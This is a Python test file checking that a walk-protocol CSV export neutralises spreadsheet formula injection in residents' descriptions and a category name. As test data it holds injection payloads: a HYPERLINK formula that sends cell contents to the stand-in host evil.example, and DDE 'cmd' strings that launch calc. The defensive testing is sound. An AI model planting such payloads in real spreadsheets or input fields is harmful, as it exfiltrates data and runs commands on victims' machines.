"""The walk protocol's CSV with hostile cells: residents' descriptions (and a category's name)
that a spreadsheet would run as formulas come out as text, read back intact."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlmodel import Session, select

from app.models import Category, Observation
from app.services import csvfile
from tests.factories import JSON, login_as, post_observation
from tests.routes.test_walks import plan_walk

# What the attack run sent (issue 12), and what a spreadsheet reads as a formula.
TYPED = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]
# The form strips leading white space, so these come in by other doors (an import, Open311):
# written to the row directly.
STORED = ["\t=1+1", "\r=cmd|' /C calc'!A0"]
PLAIN = "The lamp by the underpass is out. =1+1 in the middle is fine"
HOSTILE_CATEGORY = "=Dark spot"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_back(answer) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    text = answer.text.removeprefix("\ufeff")
    # newline="": a carriage return inside a quoted cell is data, as in a spreadsheet.
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_protocol_csv_writes_formulas_as_text(client: TestClient, session: Session) -> None:
    login_as(client, session, "walk_leader")
    walk = plan_walk(client, session)
    phone = TestClient(client.app, headers={"Accept-Language": "en"})
    tokens = {}
    for description in [*TYPED, PLAIN, *[f"placeholder {i}" for i in range(len(STORED))]]:
        answer = post_observation(
            phone, headers=JSON, walk_code=walk.join_code, description=description
        )
        assert answer.status_code == 201, answer.text
        tokens[description] = answer.json()["token"]
    for i, description in enumerate(STORED):
        obs = session.exec(
            select(Observation).where(Observation.token == tokens[f"placeholder {i}"])
        ).one()
        obs.description = description
        session.add(obs)
    category = session.exec(select(Category).where(Category.slug == "dark-spot")).one()
    category.name_en = HOSTILE_CATEGORY
    session.add(category)
    session.commit()

    rows = read_back(client.get(f"/walks/{walk.id}/protocol.csv"))

    assert len(rows) == len(TYPED) + 1 + len(STORED)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # The text is all there: one protecting quote in front, taken off again by read_cell.
    described = {csvfile.read_cell(row["Description"]): row["Description"] for row in rows}
    for text in [*TYPED, *STORED]:
        assert described[text] == "'" + text
    assert described[PLAIN] == PLAIN  # not touched: nothing to protect
    assert {row["Category"] for row in rows} == {"'" + HOSTILE_CATEGORY}
    # Numbers are still numbers for the spreadsheet.
    for row in rows:
        float(row["Latitude"]), float(row["Longitude"]), int(row["Number"])
